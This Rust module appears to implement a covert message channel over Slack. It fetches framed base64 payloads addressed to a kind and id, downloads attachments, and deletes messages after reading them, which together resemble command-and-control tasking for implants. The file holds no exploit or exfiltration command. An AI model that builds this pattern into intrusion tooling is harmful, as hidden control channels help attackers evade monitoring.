//! Message store access
//!
//! Scans recent channel history for messages addressed to a `(kind, id)`
//! pair, extracts their payloads inline or via attachment download, and
//! consumes them with delete-after-read. Messages of a `"payloads"` kind are
//! retained so a failed download can be retried on a later cycle.

use std::time::{SystemTime, UNIX_EPOCH};

use palaver_proto::{frame, Frame, ProtocolError};
use tracing::{debug, warn};

use crate::api::{
    self, ApiStatus, AttachmentBody, DeleteBody, HistoryResponse, PostMessageBody,
};
use crate::channel::{SlackChannel, PAYLOADS_KIND};
use crate::error::ChannelError;
use crate::transport::Transport;

/// How a matched message's payload is obtained
enum PayloadMode {
    /// Substring after the frame separator
    Inline,
    /// Authenticated download of the first file attachment
    Attachment,
}

impl<T: Transport> SlackChannel<T> {
    /// Retrieve inline payloads of messages addressed to `(kind, id)`.
    ///
    /// Returns the base64 payload substrings in channel-history order, after
    /// deleting each consumed message (unless `kind` contains `"payloads"`).
    pub async fn fetch_inline(&self, kind: &str, id: &str) -> Result<Vec<String>, ChannelError> {
        self.scan(kind, id, PayloadMode::Inline).await
    }

    /// Retrieve attachment payloads of messages addressed to `(kind, id)`.
    ///
    /// The payload is the downloaded content of each message's first file
    /// attachment (still base64 text); deletion policy is identical to the
    /// inline mode.
    pub async fn fetch_attachments(
        &self,
        kind: &str,
        id: &str,
    ) -> Result<Vec<String>, ChannelError> {
        self.scan(kind, id, PayloadMode::Attachment).await
    }

    async fn scan(
        &self,
        kind: &str,
        id: &str,
        mode: PayloadMode,
    ) -> Result<Vec<String>, ChannelError> {
        let history = self.history().await?;
        let mut contents = Vec::new();

        for message in &history.messages {
            if !frame::matches(&message.text, kind, id) {
                continue;
            }

            match mode {
                PayloadMode::Inline => match frame::payload_text(&message.text) {
                    Ok(payload) => contents.push(payload.to_string()),
                    Err(err) => {
                        warn!("Skipping malformed frame at ts {}: {}", message.ts, err);
                        continue;
                    }
                },
                PayloadMode::Attachment => {
                    let Some(url) = message
                        .files
                        .first()
                        .and_then(|f| f.url_private_download.as_deref())
                    else {
                        warn!(
                            "Matched message at ts {} has no downloadable attachment",
                            message.ts
                        );
                        // Consumed but unusable; clean it up anyway so it is
                        // not re-scanned on every poll.
                        if !kind.contains(PAYLOADS_KIND) {
                            self.delete_message(&message.ts).await;
                        }
                        continue;
                    };
                    let bytes = self.transport.get(url, self.bearer()).await?;
                    contents.push(String::from_utf8_lossy(&bytes).into_owned());
                }
            }

            // Payload-kind messages stay behind for retry-safe re-download.
            if !kind.contains(PAYLOADS_KIND) {
                self.delete_message(&message.ts).await;
            }
        }

        debug!(
            "Found {} message(s) for descriptor {}",
            contents.len(),
            frame::descriptor(kind, id)
        );
        Ok(contents)
    }

    /// Post an encoded frame to the channel, optionally carrying an upload
    /// descriptor in the legacy attachments field
    pub(crate) async fn post_frame(
        &self,
        frame: &Frame,
        descriptor: Option<&str>,
    ) -> Result<(), ChannelError> {
        let text = frame.encode();
        let attachments = descriptor.map(|d| vec![AttachmentBody { fallback: d }]);
        let body = PostMessageBody {
            channel: &self.config.channel_id,
            text: &text,
            attachments,
        };
        let body = serde_json::to_value(&body)
            .map_err(|e| ChannelError::Protocol(ProtocolError::Serialization(e.to_string())))?;

        let raw = self
            .transport
            .post_json(
                &api::post_message_url(&self.config.api_base),
                self.bearer(),
                &body,
            )
            .await?;

        let status: ApiStatus = serde_json::from_slice(&raw).unwrap_or(ApiStatus {
            ok: false,
            error: None,
        });
        if !status.ok {
            return Err(ChannelError::Api {
                call: "chat.postMessage",
                detail: status
                    .error
                    .unwrap_or_else(|| String::from_utf8_lossy(&raw).into_owned()),
            });
        }
        Ok(())
    }

    /// Delete a consumed message by its timestamp. Failure is logged and
    /// does not abort the scan that triggered it.
    pub(crate) async fn delete_message(&self, ts: &str) {
        let body = DeleteBody {
            channel: &self.config.channel_id,
            ts,
        };
        let body = match serde_json::to_value(&body) {
            Ok(body) => body,
            Err(err) => {
                warn!("Failed to build delete request for ts {}: {}", ts, err);
                return;
            }
        };

        match self
            .transport
            .post_json(&api::delete_url(&self.config.api_base), self.bearer(), &body)
            .await
        {
            Ok(raw) => {
                let status: ApiStatus = serde_json::from_slice(&raw).unwrap_or(ApiStatus {
                    ok: false,
                    error: None,
                });
                if !status.ok {
                    warn!(
                        "Delete of ts {} refused: {}",
                        ts,
                        status.error.unwrap_or_default()
                    );
                }
            }
            Err(err) => warn!("Delete of ts {} failed: {}", ts, err),
        }
    }

    async fn history(&self) -> Result<HistoryResponse, ChannelError> {
        let oldest = unix_now().saturating_sub(self.config.lookback().as_secs());
        let url = api::history_url(&self.config.api_base, &self.config.channel_id, oldest);
        let raw = self.transport.get(&url, self.bearer()).await?;

        let response: HistoryResponse =
            serde_json::from_slice(&raw).unwrap_or_else(|_| HistoryResponse {
                ok: false,
                error: Some("unparseable response body".to_string()),
                messages: Vec::new(),
            });
        if !response.ok {
            let detail = response.error.unwrap_or_else(|| "no success indicator".to_string());
            warn!("Failed to get channel history: {}", detail);
            return Err(ChannelError::Api {
                call: "conversations.history",
                detail,
            });
        }
        Ok(response)
    }
}

fn unix_now() -> u64 {
    SystemTime::now()
        .duration_since(UNIX_EPOCH)
        .unwrap_or_default()
        .as_secs()
}
